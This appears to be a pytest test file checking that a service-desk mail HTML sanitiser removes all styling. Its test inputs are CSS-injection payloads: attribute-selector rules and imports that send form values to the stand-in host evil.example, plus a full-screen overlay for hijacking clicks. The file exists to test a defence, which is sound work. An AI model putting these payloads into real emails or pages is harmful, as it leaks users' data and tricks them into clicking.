"""A5: a mail brings no style: it fetches nothing by one and lays nothing over our buttons."""

import pytest

from servicedesk.lib.mail_html import sanitise


@pytest.mark.parametrize(
    "html",
    [
        "<style>@import url(https://evil.example/x.css); input[value^=a]{background:url(//evil.example/a)}</style>x",
        '<p style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/p)">x</p>',
        '<div style="margin-top:-2000px">x</div>',
        '<td background="https://evil.example/t.png" bgcolor=red>x</td>',
        '<link rel=stylesheet href="https://evil.example/x.css">x',
        '<p class="btn btn--primary" id="main">x</p>',
        "<svg><style>*{x:url(//evil.example)}</style></svg>x",
    ],
)
def test_no_style_is_left(html: str) -> None:
    clean = sanitise(html)

    assert clean in ("x", "<p>x</p>", "<div>x</div>")
